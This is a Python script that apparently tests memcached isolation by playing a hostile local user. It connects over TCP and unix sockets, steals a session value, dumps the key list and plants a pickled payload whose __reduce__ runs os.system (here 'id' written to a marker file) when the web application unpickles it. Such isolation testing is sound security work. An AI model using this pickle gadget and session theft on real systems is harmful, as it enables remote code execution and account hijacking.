"""What another local user (run as `nobody`) can do to the replica's memcached: connect over TCP
and over each given unix socket, read a session's raw value, list keys, and plant a pickled value
that runs a command when the web application unpickles it. Prints one JSON object.
  memcached_intruder.py STEAL_KEY PLANT_KEY MARKER [SOCKET ...]"""
import json
import os
import pickle
import socket
import sys


class Payload:
    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


steal, plant, marker = sys.argv[1:4]
endpoints = [('tcp', ('127.0.0.1', 11211))] + [('unix', path) for path in sys.argv[4:]]
payload = pickle.dumps(Payload(f'id > {marker}'), protocol=2)
out = {'user': os.getuid(), 'endpoints': []}


def talk(sock, command, until=(b'END\r\n', b'STORED\r\n', b'ERROR\r\n', b'NOT_STORED\r\n')):
    sock.sendall(command)
    data = b''
    while not data.endswith(until):
        chunk = sock.recv(1 << 20)
        if not chunk:
            break
        data += chunk
    return data


for kind, address in endpoints:
    result = {'kind': kind, 'address': address if kind == 'unix' else f'{address[0]}:{address[1]}'}
    try:
        family = socket.AF_UNIX if kind == 'unix' else socket.AF_INET
        with socket.socket(family, socket.SOCK_STREAM) as sock:
            sock.settimeout(5)
            sock.connect(address)
            result['connected'] = True
            got = talk(sock, b'get ' + steal.encode() + b'\r\n')
            result['stole_session_bytes'] = int(got.split()[3]) if got.startswith(b'VALUE') else 0
            dump = talk(sock, b'lru_crawler metadump all\r\n', until=(b'END\r\n', b'ERROR\r\n', b'BUSY\r\n'))
            result['listed_keys'] = dump.count(b'key=')
            stored = talk(sock, b'set %s 1 300 %d\r\n%s\r\n' % (plant.encode(), len(payload), payload))
            result['planted'] = stored == b'STORED\r\n'
    except OSError as exc:
        result['connected'] = False
        result['error'] = f'{type(exc).__name__}: {exc}'
    out['endpoints'].append(result)
out['connected_anywhere'] = any(e['connected'] for e in out['endpoints'])
out['stole'] = any(e.get('stole_session_bytes') for e in out['endpoints'])
out['planted'] = any(e.get('planted') for e in out['endpoints'])
print(json.dumps(out))
